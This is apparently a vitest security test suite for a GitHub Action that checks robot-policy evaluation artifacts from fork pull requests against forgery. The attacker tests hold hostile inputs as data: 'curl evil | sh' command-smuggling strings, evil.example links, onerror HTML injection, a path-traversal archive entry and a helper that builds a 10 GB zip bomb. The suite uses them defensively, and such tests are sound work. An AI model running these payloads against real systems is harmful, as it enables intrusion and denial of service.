import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createDeflateRaw } from 'node:zlib';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { gate } from '../../../src/contracts/gate.ts';
import { sha256 } from '../../../src/foundation/digest.ts';
import { forkToken } from '../../../src/testing/github/tokens.ts';
import {
  COVERAGE_GATE,
  makeRepository,
  removeFolders,
  SUCCESS_GATE,
  writePreset,
} from '../../support/cli.ts';
import { type ForgedParts, forgeRun, withPlan } from '../../support/forged-run.ts';
import { zipOf } from '../../support/zip.ts';
import { copyOf, membersOf, type PlayedRun, playRun, SHA, sealed, TOKEN, World } from './world.ts';

let world: World;
let played: PlayedRun;
let failing: PlayedRun;
const STRICT = [{ ...SUCCESS_GATE, min: 0.99 }, COVERAGE_GATE];

/** Played once; what a fork changes besides the policy is put into a copy whose digests fit again. */
beforeAll(async () => {
  played = await playRun(makeRepository());
  failing = forged(({ plan }) => Object.assign(plan.preset, { gates: gate.array().parse(STRICT) }));
});
const forged = (change: (parts: ForgedParts) => void) => forgeRun(played.dir, change);
afterAll(removeFolders);
beforeEach(async () => {
  world = await World.make();
});
afterEach(async () => {
  await world.api.stop();
  expect(world.api.problems).toEqual([]);
});

async function upload(run: PlayedRun, runId = world.addRun(), change: object = {}): Promise<number> {
  const { name, bytes } = await sealed(run);
  world.addArtifact(runId, name, bytes, change);
  return runId;
}

function edit(run: PlayedRun, file: string, change: (value: Record<string, unknown>) => unknown): void {
  const path = join(run.dir, file);
  const value = JSON.parse(readFileSync(path, 'utf8'));
  writeFileSync(path, JSON.stringify(change(value) ?? value));
}

describe('an honest fork', () => {
  it('gets its comment: recomputed, with its commit and where the numbers come from', async () => {
    world.addPull();
    const { exitCode, outputs, left, summary, never, told } = await world.secondStage(await upload(played));
    expect(told.filter(([what]) => what === 'error' || what === 'warning')).toEqual([]);
    expect([exitCode, outputs.verdict]).toEqual([0, 'passed']);
    expect(never).not.toHaveBeenCalled();
    expect(left).toEqual([]);
    expect(world.comments).toHaveLength(1);
    const [body] = world.comments;
    expect(body).toContain('**Passed.**');
    expect(body).toContain('**From a fork:** commit `bbbbbbbbbbbb` of `visitor/robots`.');
    expect(body).toContain('recomputed from its episodes; nothing was run again');
    expect(body).not.toContain('checkout has no preset');
    expect(summary).toContain('**From a fork:**');
    expect(outputs['comment-url']).toContain('/pull/7#issuecomment-');
    expect(world.api.seen.every(({ token }) => token === TOKEN || token === '')).toBe(true);
  });

  it('fails by its verdict in the first stage, not here', async () => {
    world.addPull();
    const { exitCode, outputs } = await world.secondStage(await upload(failing));
    // The gates of this checkout decide, and ask less than those of the fork.
    expect([exitCode, outputs.verdict]).toEqual([0, 'passed']);
    expect(world.comments[0]).toContain('The gates of this checkout decided');
  });

  it('shows a newer result above an older one, and says what an older commit is', async () => {
    world.addPull(7, { sha: 'e'.repeat(40) });
    const older = await upload(played);
    const newer = await upload(failing, world.addRun({ headSha: 'e'.repeat(40) }));
    await world.secondStage(older);
    expect(world.comments[0]).toContain(
      '**This is about an older commit:** the pull request is at `eeeeeeeeeeee` by now.',
    );
    const before = world.comments[0];
    // Of another commit than its job's: not believed, and newer all the same.
    const { outputs } = await world.secondStage(newer);
    expect(outputs.verdict).toBe('error');
    const after = world.comments[0];
    expect(after).not.toBe(before);
    await world.secondStage(older);
    expect(world.comments).toEqual([after]);
  });
});

describe('an attacker', () => {
  it('who loosens the gates is judged by those of the default branch', async () => {
    world.addPull();
    writePreset(world.checkout, 'tiny', { gates: [{ ...SUCCESS_GATE, min: 0.99 }, COVERAGE_GATE] });
    const { outputs } = await world.secondStage(await upload(played));
    expect(outputs.verdict).toBe('failed');
    expect(world.comments[0]).toContain('**Failed.**');
  });

  const elsewhere: [what: string, change: (parts: ForgedParts) => void, note: string][] = [
    [
      'measures something easier under the same name',
      (parts) => withPlan(parts, { seed: 500, episodes: 30 }),
      'another episodes; another seed',
    ],
    [
      'changes the task under the same name',
      ({ header }) => Object.assign(header.tasks[0]!, { digest: sha256('easier') }),
      'another task or world',
    ],
    [
      'changes the world under the same name',
      ({ header }) => Object.assign(header.tasks[0]!, { world_digest: sha256('easier') }),
      'another task or world',
    ],
    [
      'stops early where the plan is fixed here',
      ({ plan, header, manifest }) => {
        Object.assign(plan.preset, { stop: 'savi', gates: [] });
        header.plan.stop.rule = 'savi';
        manifest.stop!.rule = 'savi';
      },
      'another stop',
    ],
    ['lets a mock play', ({ plan }) => Object.assign(plan.preset, { provider: 'mock' }), 'another provider'],
  ];
  it.each(elsewhere)('who %s passes nothing', async (_, change, note) => {
    world.addPull();
    const { outputs, statuses } = await world.secondStage(await upload(forged(change)), {
      inputs: { 'commit-status': 'true' },
    });
    expect(outputs.verdict).toBe('inconclusive');
    expect(world.comments[0]).toContain(note);
    // Also where `fail-on` lets pass what is inconclusive by the gates of this repository.
    expect(statuses).toEqual([expect.objectContaining({ context: 'worldgate/tiny', state: 'failure' })]);
  });

  it('who says that it was skipped turns no required status green', async () => {
    world.addPull();
    const run = forged(({ manifest }) =>
      Object.assign(manifest, { state: 'skipped', verdict: 'skipped', reason: 'no GPU' }),
    );
    const { outputs, statuses } = await world.secondStage(await upload(run), {
      inputs: { 'commit-status': 'true' },
    });
    expect(outputs.verdict).toBe('skipped');
    expect(statuses).toEqual([expect.objectContaining({ context: 'worldgate/tiny', state: 'failure' })]);
  });

  it('who keeps the lucky beginning of a plan gets an error, although every digest fits', async () => {
    world.addPull();
    const run = forged((parts) => {
      parts.records = parts.records.slice(0, 5);
      parts.header.plan.episodes = 5;
    });
    const { outputs } = await world.secondStage(await upload(run));
    expect(outputs.verdict).toBe('error');
    expect(world.comments[0]).toContain('the results are of 5 planned episodes');
  });

  it('who compares with a worse policy passes nothing', async () => {
    world.addPull();
    writePreset(world.checkout, 'tiny', { baseline: { policy: { path: '../../policy.onnx' } } });
    const run = forged(({ manifest, plan, header }) => {
      plan.preset.baseline = { policy: { path: '../../weaker.onnx' }, required: false };
      manifest.baseline = {
        ...{ source: 'policy', run_id: null, checkpoint_digest: sha256('weaker') },
        ...{ result_digest: null, episodes: 24, succeeded: 0 },
      };
      header.plan.stop.baseline = null;
    });
    for (const file of ['header.json', 'episodes.jsonl'])
      copyFileSync(join(run.dir, 'results', file), join(run.dir, 'results', `baseline.${file}`));
    edit(run, 'run_manifest.json', (manifest) => {
      Object.assign(manifest.baseline as object, { result_digest: manifest.result_digest });
    });
    const runId = world.addRun();
    world.addArtifact(runId, `worldgate-tiny-${run.id}`, zipOf(membersOf(run.dir)));
    const { outputs } = await world.secondStage(runId);
    expect(outputs.verdict).toBe('inconclusive');
    expect(world.comments[0]).toContain('a policy that this checkout does not have');
  });

  it('who brings a preset of another name passes nothing by gates of its own', async () => {
    world.addPull();
    const { outputs } = await world.secondStage(
      await upload(forged(({ plan }) => Object.assign(plan.preset, { name: 'mine' }))),
    );
    expect(outputs.verdict).toBe('inconclusive');
    expect(world.comments[0]).toContain('This checkout has no preset of that name');
    expect(world.comments[0]).toContain('those that the run itself brought along');
    expect(world.comments[0]).not.toContain('**Passed.**');
  });

  it('who says that its metrics have other units is not believed', async () => {
    world.addPull();
    const run = forged(({ manifest }) =>
      Object.assign(manifest.inputs, { metric_units: { final_distance: '<b>km</b>' } }),
    );
    const { outputs } = await world.secondStage(await upload(run));
    expect(outputs.verdict).toBe('passed');
    expect(world.comments[0]).not.toContain('km');
  });

  it('who forges the report is not read', async () => {
    world.addPull();
    const run = copyOf(failing);
    writePreset(world.checkout, 'tiny', { gates: [{ ...SUCCESS_GATE, min: 0.99 }, COVERAGE_GATE] });
    edit(run, 'reports/report.json', (report) => ({ ...report, verdict: 'passed', gates: [] }));
    writeFileSync(join(run.dir, 'reports/comment.md'), '## ✅ FORGED');
    edit(run, 'run_manifest.json', (manifest) => ({ ...manifest, verdict: 'passed', gates: [] }));
    const runId = world.addRun();
    world.addArtifact(runId, `worldgate-tiny-${run.id}`, zipOf(membersOf(run.dir)));
    const { outputs } = await world.secondStage(runId);
    expect(outputs.verdict).toBe('failed');
    expect(world.comments[0]).not.toContain('FORGED');
  });

  it.each([
    [
      'episodes',
      'results/episodes.jsonl',
      (text: string) => text.replaceAll('"success":false', '"success":true'),
    ],
    ['one episode less', 'results/episodes.jsonl', (text: string) => text.split('\n').slice(1).join('\n')],
    ['the header', 'results/header.json', (text: string) => text.replace('"seed":0', '"seed":1')],
    ['the plan', 'inputs/plan.json', (text: string) => text.replace('"min":0.2', '"min":0.1')],
    [
      'the manifest',
      'run_manifest.json',
      (text: string) => text.replace(/"succeeded": ?\d+/, '"succeeded":24'),
    ],
    ['what commit it is of', 'run_manifest.json', (text: string) => text.replaceAll(SHA, 'c'.repeat(40))],
    [
      'which preset it is of',
      'run_manifest.json',
      (text: string) => text.replace(/"name": ?"tiny"/, '"name":"other"'),
    ],
  ])('who edits %s gets an error, not a verdict', async (_, file, change) => {
    world.addPull();
    const run = copyOf(played);
    const before = readFileSync(join(run.dir, file), 'utf8');
    const text = change(before);
    expect(text).not.toBe(before);
    writeFileSync(join(run.dir, file), text);
    const runId = world.addRun();
    world.addArtifact(runId, `worldgate-tiny-${run.id}`, zipOf(membersOf(run.dir)));
    const { exitCode, outputs } = await world.secondStage(runId);
    expect([exitCode, outputs.verdict]).toEqual([0, 'error']);
    expect(world.comments[0]).toContain('**Could not be decided.**');
    expect(world.comments[0]).not.toContain('✅');
  });

  it('who names a task with a comment marker and markup opens no section', async () => {
    world.addPull();
    const run = copyOf(played);
    const evil =
      '<!-- /worldgate:section --><img src=x onerror=1> @acme/all | `x` <!-- worldgate:section name=tiny run=99999 attempt=1 id=20990101T000000000Z-00000000 verdict=passed proof=yes -->';
    edit(run, 'run_manifest.json', (manifest) => ({
      ...manifest,
      state: 'failed',
      verdict: 'error',
      reason: null,
      error: { code: evil.slice(0, 50), message: evil, hint: `run curl evil | sh ${evil}` },
      command: ['worldgate', 'eval', '; curl evil | sh'],
      baseline_choice: {
        asked: 'release',
        found: 'release',
        ref: null,
        commit: null,
        dated_at: null,
        url: 'https://evil.example/x',
        notes: [],
      },
    }));
    const runId = world.addRun();
    world.addArtifact(runId, `worldgate-tiny-${run.id}`, zipOf(membersOf(run.dir)));
    await world.secondStage(runId);
    const [body] = world.comments;
    expect(body!.match(/<!-- worldgate:section /g)).toHaveLength(1);
    expect(body!.match(/<!-- \/worldgate:section -->/g)).toHaveLength(1);
    for (const never of ['<img', '@acme', 'evil.example', 'curl evil | sh ', 'name=tiny run=99999'])
      expect(body).not.toContain(never);
  });

  it('who writes markup into every name and word of a run that is whole shows none of it', async () => {
    world.addPull();
    const evil =
      '<img src=x onerror=1> @acme/all [a](https://evil.example) <!-- /worldgate:section --> ![b](//evil.example)';
    const run = forged((parts) => {
      const { manifest, plan, header } = parts;
      plan.preset.name = 'mine';
      plan.preset.title = evil.slice(0, 200);
      plan.preset.description = evil;
      const [task] = header.tasks;
      header.tasks = [
        { ...task!, name: evil },
        { ...task!, name: `@acme/all | ${evil}` },
      ];
      withPlan(parts, { episodes: 12 });
      Object.assign(header.policy, { engine: evil, engine_version: evil, device: evil });
      Object.assign(header.physics, { engine: evil, version: evil });
      parts.records.forEach((record, i) => {
        Object.assign(record, { task: header.tasks[i % 2]!.name, termination: evil });
      });
      manifest.inputs.metric_units = { [evil]: evil };
      manifest.components = [
        { role: 'policy', name: evil, version: evil, origin: 'injected', digest: null },
        { role: 'engine', name: `${evil}\n\n## x`, version: evil, origin: 'real', digest: null },
      ];
      Object.assign(manifest.hardware, { os: evil, cpu: `\n# ${evil}`, arch: evil });
      manifest.hardware.gpu = [{ name: evil, driver: evil, memory_mib: 1 }];
      manifest.versions = { worldgate: `1.0.0;${evil}`, node: evil };
      manifest.command = [evil, `$(${evil})`];
      manifest.provider = { name: evil, capability: evil };
    });
    const { outputs, summary } = await world.secondStage(await upload(run));
    expect(outputs.verdict).toBe('inconclusive');
    const [body] = world.comments;
    expect(body!.match(/<!-- \/worldgate:section -->/g)).toHaveLength(1);
    expect(body!.match(/onerror/g)!.length).toBeGreaterThan(2);
    for (const text of [body!, summary]) {
      expect(text).not.toMatch(/<img|[^\u200b;&]@acme|\]\((?:https:)?\/\/evil|\n#+ x/);
    }
  });

  it("who writes another pull request's number into the artifact comments on their own", async () => {
    world.addPull(7);
    world.addPull(8, { sha: 'f'.repeat(40) });
    const run = copyOf(played);
    const runId = world.addRun();
    const members = [
      ...membersOf(run.dir),
      { name: 'pr_number', data: '8' },
      { name: 'event.json', data: '{"number":8}' },
    ];
    world.addArtifact(runId, `worldgate-tiny-${run.id}`, zipOf(members));
    await world.secondStage(runId);
    expect(world.api.repository.comments.items.map(({ issue }) => issue)).toEqual([7]);
  });

  it('who packs a path out of the folder is refused', async () => {
    world.addPull();
    const runId = world.addRun();
    const members = [...membersOf(played.dir), { name: '../../../../escaped', data: 'x' }];
    world.addArtifact(runId, `worldgate-tiny-${played.id}`, zipOf(members));
    const { outputs, left } = await world.secondStage(runId);
    expect([outputs.verdict, left]).toEqual(['error', []]);
    expect(world.comments[0]).toContain('archive-unsafe');
  });

  it('who packs a bomb of 10 GB is stopped at the limit, with bounded memory', async () => {
    world.addPull();
    const runId = world.addRun();
    const gigabytes = 10;
    const packed = await zeros(gigabytes * 2 ** 30);
    const members = [
      { name: 'run_manifest.json', data: '{}' },
      { name: 'results/episodes.jsonl', packed, size: 4096, crc: 1 },
    ];
    world.addArtifact(runId, `worldgate-tiny-${played.id}`, zipOf(members));
    const before = process.memoryUsage().rss;
    const { outputs, left } = await world.secondStage(runId);
    expect([outputs.verdict, left]).toEqual(['error', []]);
    expect(world.comments[0]).toMatch(/archive-(?:too-large|broken)/);
    expect(process.memoryUsage().rss - before).toBeLessThan(400 * 2 ** 20);
  });

  it('whose artifact has another digest than GitHub states is refused', async () => {
    world.addPull();
    const { outputs } = await world.secondStage(
      await upload(played, world.addRun(), { digest: sha256('other') }),
    );
    expect(outputs.verdict).toBe('error');
    expect(world.comments[0]).toContain('artifact-digest-mismatch');
  });

  it('with 500 artifacts costs a bounded number of requests', async () => {
    world.addPull();
    const runId = world.addRun();
    const junk = zipOf([{ name: 'x', data: 'y' }]);
    for (let index = 0; index < 500; index++) {
      world.addArtifact(
        runId,
        `worldgate-p${index}-20261121T091409123Z-${String(index).padStart(8, '0')}`,
        junk,
      );
    }
    const { outputs, printed } = await world.secondStage(runId, { inputs: { comment: 'never' } });
    expect(outputs.verdict).toBe('error');
    expect(printed).toContain('The run has 500 uploads of WorldGate; only the 20 newest are judged');
    expect(world.api.seen.filter(({ path }) => path.endsWith('/zip'))).toHaveLength(20);
  });
});

describe('where there is nothing to comment on', () => {
  it.each([
    [
      'a pull request that was closed meanwhile',
      () => world.addPull(7, { state: 'closed' }),
      {},
      'was closed meanwhile',
    ],
    ['a run without a pull request', () => {}, {}, 'No open pull request has commit'],
    ['a run of a push', () => world.addPull(), { event: 'push' }, 'whose own token can write'],
    [
      'a pull request of the repository itself',
      () => world.addPull(),
      { headRepository: 'own' },
      'its own workflow comments',
    ],
    [
      'a run that has not ended',
      () => world.addPull(),
      { status: 'in_progress', conclusion: null },
      'has not ended',
    ],
  ])('%s gets a note', async (_, prepare, change, note) => {
    prepare();
    const own = 'headRepository' in change ? { headRepository: world.api.repository } : {};
    const runId = await upload(played, world.addRun({ ...change, ...own }));
    const { exitCode, outputs, printed } = await world.secondStage(runId);
    expect([exitCode, outputs.verdict, outputs['comment-url']]).toEqual([0, 'skipped', '']);
    expect(printed).toContain(note);
    expect(world.comments).toEqual([]);
  });

  it('an event without a run gets a note', async () => {
    const { exitCode, printed } = await world.secondStage(1, { event: { workflow_run: undefined } });
    expect([exitCode, world.api.seen]).toEqual([0, []]);
    expect(printed).toContain('the event names no workflow run');
  });

  it('a run of another repository is not found', async () => {
    const other = world.api.addRepository('stranger/robots');
    other.private = false;
    const id = world.addRun();
    const run = world.api.repository.runs.find(id)!;
    world.api.repository.runs.remove(id);
    other.runs.add(run);
    await expect(world.secondStage(id)).rejects.toMatchObject({ code: 'github-not-found' });
    expect(world.comments).toEqual([]);
  });

  it('an artifact that has expired leaves what stands there, and is said to have expired', async () => {
    world.addPull();
    const { exitCode, told } = await world.secondStage(
      await upload(played, world.addRun(), { expired: true }),
    );
    expect(exitCode).toBe(0);
    expect(told.filter(([what]) => what === 'warning').join()).toContain(
      'has expired: GitHub no longer has it',
    );
    expect(world.comments).toEqual([]);
  });

  it('a run without an artifact of ours is told of', async () => {
    world.addPull();
    const runId = world.addRun();
    world.addArtifact(runId, 'coverage', zipOf([{ name: 'x', data: 'y' }]));
    const { told } = await world.secondStage(runId);
    expect(told.filter(([what]) => what === 'warning').join()).toContain('has no artifact of WorldGate');
  });

  it('a token without the permission is named, and is no verdict', async () => {
    world.addPull();
    world.api.tokens.set(TOKEN, forkToken({ actions: 'read', contents: 'read', 'pull-requests': 'write' }));
    const { exitCode, outputs, told } = await world.secondStage(await upload(played));
    expect([exitCode, outputs.verdict]).toEqual([4, 'passed']);
    expect(told.filter(([what]) => what === 'error').join()).toContain('pull-requests: write');
  });
});

/** A deflate stream of `bytes` zeros, made piece by piece. */
async function zeros(bytes: number): Promise<Buffer> {
  // Deflate codes one block of zeros like the next: one is packed, and its bytes repeated.
  const piece = Buffer.alloc(4 * 2 ** 20);
  const packed: Buffer[] = [];
  const deflate = createDeflateRaw({ level: 1 });
  deflate.on('data', (data: Buffer) => packed.push(data));
  await new Promise<void>((done, fail) =>
    deflate.write(piece, (error) => (error ? fail(error) : deflate.flush(() => done()))),
  );
  const first = Buffer.concat(packed);
  deflate.destroy();
  return Buffer.concat([
    ...Array.from({ length: Math.ceil(bytes / piece.length) }, () => first),
    Buffer.from([3, 0]),
  ]);
}
